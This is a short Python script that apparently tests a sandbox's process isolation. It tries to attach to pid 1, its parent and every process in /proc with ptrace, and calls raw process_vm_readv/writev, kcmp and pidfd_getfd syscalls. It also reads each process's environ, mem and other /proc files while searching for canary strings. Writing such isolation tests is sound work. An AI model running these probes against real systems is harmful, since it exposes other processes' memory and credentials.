"""Attaches to its parent, pid 1 and the siege as a debugger would, and reads their memory and descriptors."""

SOURCE = "ptrace(2), process_vm_readv(2), pidfd_getfd(2)"
SUCCESS = "a canary in the outputs"

# %%
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)


def tell(what, result):
    print(what, "SUCCEEDED" if result >= 0 else os.strerror(ctypes.get_errno()))
    return result


buffer = ctypes.create_string_buffer(4096)
for pid in {1, os.getppid(), int("@PID@"), *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {
    os.getpid()
}:
    for request in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
        tell(f"ptrace {pid}", libc.ptrace(request, pid, 0, 0))
    vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 4096)
    tell(f"process_vm_readv {pid}", libc.syscall(310, pid, vector, 1, vector, 1, 0))
    tell(f"process_vm_writev {pid}", libc.syscall(311, pid, vector, 1, vector, 1, 0))
    tell(f"kcmp {pid}", libc.syscall(312, os.getpid(), pid, 1, 0, 0))
    descriptor = libc.syscall(434, pid, 0)
    for number in range(8):
        if descriptor >= 0:
            tell(f"pidfd_getfd {pid} {number}", libc.syscall(438, descriptor, number, 0))
    for name in ("environ", "mem", "maps", "stack", "syscall", "io", "auxv", "fd", "cmdline"):
        try:
            if name == "fd":
                print("SUCCEEDED", os.listdir(f"/proc/{pid}/fd"))
                continue
            with open(f"/proc/{pid}/{name}", "rb") as file:
                print(name, re.findall(rb"CANARY[\w-]+", file.read(1 << 20)))
        except (OSError, ValueError) as error:
            print(pid, name, error)
print("attempted")
